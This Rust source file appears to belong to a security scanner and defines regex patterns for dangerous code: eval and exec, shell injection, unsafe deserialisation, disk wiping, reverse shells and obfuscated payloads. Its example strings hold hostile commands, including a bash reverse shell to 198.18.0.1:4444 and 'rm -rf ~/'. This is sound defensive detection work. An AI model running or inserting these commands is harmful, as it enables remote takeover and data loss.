//! Code that can do anything, by language.

use crate::scan::finding::{Confidence, FindingWeight, ScanSeverity};
use crate::scan::layout::{Lang, TextRoles};
use crate::scan::pattern::Pattern;
use crate::scan::rule::ScanRule;
use crate::scan::weigh::{self, Hit};

pub(crate) static CODE_DANGER: ScanRule = ScanRule {
    id: "CODE-DANGER",
    title: "Dangerous code",
    description: "Code that runs text as code or through a shell, deserialises objects that can \
                  run code, destroys data, hides what it does, or opens a remote shell.",
    severity: ScanSeverity::Medium,
    help: "Pass arguments as a list without a shell, parse data with a data format, and keep the \
           code readable.",
    hostile: true,
};

const PYTHON: &[Lang] = &[Lang::Python];
const SCRIPT: &[Lang] = &[Lang::JavaScript];
const SHELL: &[Lang] = &[Lang::Shell, Lang::Unknown];

const fn danger_pattern(
    message: &'static str,
    langs: &'static [Lang],
    anchors: &'static [&'static str],
    regex: &'static str,
) -> Pattern {
    Pattern::new(&CODE_DANGER, message, anchors, regex)
        .in_roles(TextRoles::CODE)
        .in_langs(langs)
        .weigh_with(weigh::code)
}

pub(crate) const PATTERNS: &[Pattern] = &[
    danger_pattern("Runs text as Python", PYTHON, &["eval(", "exec("], r"(?:^|[^\w.])(?:eval|exec)\(\s*[^)\s]")
        .weigh_with(weigh_dynamic)
        .example("a.py", "x = eval(answer)"),
    danger_pattern("Runs a command through a shell", PYTHON, &["os.system(", "os.popen("], r"\bos\.(?:system|popen)\(\s*[^)\s]")
        .weigh_with(weigh_constant)
        .example("a.py", "os.system(cmd)"),
    danger_pattern("Runs a command through a shell", PYTHON, &["shell=true", "shell = true"], r"\bshell\s*=\s*True\b")
        .example("a.py", "subprocess.run(cmd, shell=True)"),
    danger_pattern(
        "Deserialises objects that can run code",
        PYTHON,
        &["pickle.load", "marshal.load", "dill.load", "yaml.load(", "yaml.unsafe_load"],
        r"\b(?:c?pickle|dill|marshal)\.loads?\(|\byaml\.unsafe_load\(|\byaml\.load\([^)\n]*\)",
    )
    .weigh_with(weigh_unpacking)
    .example("a.py", "state = pickle.load(f)"),
    danger_pattern(
        "Runs text as JavaScript",
        SCRIPT,
        &["eval(", "new function(", "runinnewcontext(", "runinthiscontext("],
        r"(?:^|[^\w.])eval\(\s*[^)\s]|\bnew\s+Function\(\s*[^)\s]|\bvm\.run(?:InNewContext|InThisContext)\(",
    )
    .weigh_with(weigh_dynamic)
    .example("a.js", "eval(body)"),
    danger_pattern(
        "Builds a shell command from values",
        SCRIPT,
        &["exec(", "execsync("],
        r"\bexec(?:Sync)?\(\s*(?:`[^`\n]*\$\{|[^,)\n]{0,80}[\x22']\s*\+\s*\w)",
    )
    .example("a.js", "execSync(`rm ${name}`)"),
    danger_pattern("Runs text as shell commands", SHELL, &["eval "], r#"(?:^|[;&|]\s*)eval\s+["']?\$[^\n]{1,80}"#)
        .weigh_with(weigh_shell_eval)
        .example("a.sh", "eval \"$1\""),
    danger_pattern(
        "Deletes the home folder or the whole disk",
        &[],
        &["rm -", "mkfs", "of=/dev/", ":(){", "remove-item"],
        r"\brm\s+(?:-\w+\s+)*-(?:\w*r\w*f|\w*f\w*r)\w*\s+(?:-\S+\s+)*(?:/|~|~/|\$HOME|\$\{HOME\}|/\*|~/\*)(?:\s*$|\s*[;&|])|\bmkfs\.\w+\s+/dev/|\bdd\s[^\n]{0,80}\bof=/dev/(?:sd|nvme|disk|hd)|:\(\)\s*\{\s*:\|:&\s*\};:",
    )
    .weight(ScanSeverity::High, Confidence::High)
    .weigh_with(weigh::command)
    .example("a.sh", "rm -rf ~/\n"),
    danger_pattern(
        "Opens a shell over the network",
        &[],
        &["/dev/tcp/", "nc ", "ncat ", "pty.spawn", "dup2", "socat"],
        r#"\bbash\s+-i\s+>&\s*/dev/tcp/|/dev/tcp/\d{1,3}(?:\.\d{1,3}){3}/\d+|\b(?:nc|ncat)\b[^\n]{0,60}\s-(?:e|c)\s*(?:/bin/)?(?:ba|z)?sh\b|\bmkfifo\b[^\n]{0,80}\|\s*(?:nc|ncat)\b|\bsocket\b[^\n]{0,300}\bpty\.spawn\(|\bos\.dup2\(\s*\w+\.fileno\(\)|\bsocat\b[^\n]{0,80}exec:["']?(?:/bin/)?(?:ba)?sh"#,
    )
    .weight(ScanSeverity::Critical, Confidence::High)
    .weigh_with(weigh::command)
    .example("a.sh", "bash -i >& /dev/tcp/198.18.0.1/4444 0>&1"),
    danger_pattern(
        "Runs an encoded PowerShell command",
        &[],
        &["-enc", "-e "],
        r"\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,120}\s-e(?:nc|ncodedcommand)?\s+[A-Za-z0-9+/=]{20,}",
    )
    .weight(ScanSeverity::High, Confidence::High)
    .weigh_with(weigh::command)
    .example("a.bat", "powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0A"),
    danger_pattern(
        "Code is written in escape sequences, which hide what it does",
        &[],
        &["\\x", "chr(", "fromcharcode", "\\u00"],
        r"(?:\\x[0-9a-f]{2}){24,}|(?:\bchr\(\d+\)\s*\+\s*){8,}|\bfromCharCode\(\s*(?:(?:0x)?[0-9a-f]+\s*,\s*){12,}|(?:\\u00[0-9a-f]{2}){20,}",
    )
    .weight(ScanSeverity::High, Confidence::Medium)
    .example("a.js", "String.fromCharCode(99,117,114,108,32,104,116,116,112,58,47,47,120,46,121)"),
    danger_pattern(
        "Decodes a long hidden text",
        &[],
        &["b64decode(", "atob(", "frombase64string(", "buffer.from("],
        r#"\b(?:b64decode|atob|FromBase64String|Buffer\.from)\(\s*b?["'`][A-Za-z0-9+/=]{120,}"#,
    )
    .weight(ScanSeverity::High, Confidence::Medium)
    .example("a.py", "x = base64.b64decode('aW1wb3J0IG9zO2ltcG9ydCBzeXM7cHJpbnQoMSk7cHJpbnQoMik7cHJpbnQoMyk7cHJpbnQoNCk7cHJpbnQoNSk7cHJpbnQoNik7cHJpbnQoNyk7cHJpbnQoOCk7')"),
];

/// Running a literal is only bad style; talk of `eval` in strings is less.
fn weigh_dynamic(hit: &Hit<'_>) -> Option<FindingWeight> {
    let before = hit.before();
    if before.trim_end().ends_with("def") || before.trim_end().ends_with("function") {
        return None;
    }
    if hit.is_quoted() || before.ends_with('`') {
        return Some(FindingWeight(ScanSeverity::Info, Confidence::Low));
    }
    weigh::code(hit)
}

/// A command that is a constant cannot be injected into.
fn weigh_constant(hit: &Hit<'_>) -> Option<FindingWeight> {
    let literal = hit.text().ends_with(['"', '\'']) && !hit.after().contains(['+', '%', '{']);
    if literal {
        Some(FindingWeight(ScanSeverity::Low, Confidence::Medium))
    } else {
        weigh::code(hit)
    }
}

fn weigh_unpacking(hit: &Hit<'_>) -> Option<FindingWeight> {
    let text = hit.text();
    let safe =
        text.contains("SafeLoader") || text.contains("CSafe") || hit.after().contains("SafeLoader");
    (!safe).then(|| weigh::code(hit)).flatten()
}

/// `eval "$(tool init)"` is how shells are set up.
fn weigh_shell_eval(hit: &Hit<'_>) -> Option<FindingWeight> {
    const SET_UP: &[&str] = &[
        "shellenv",
        "ssh-agent",
        "init",
        "hook",
        "completion",
        "direnv",
        "env --",
    ];
    if SET_UP.iter().any(|word| hit.text().contains(word)) {
        return None;
    }
    weigh::code(hit)
}
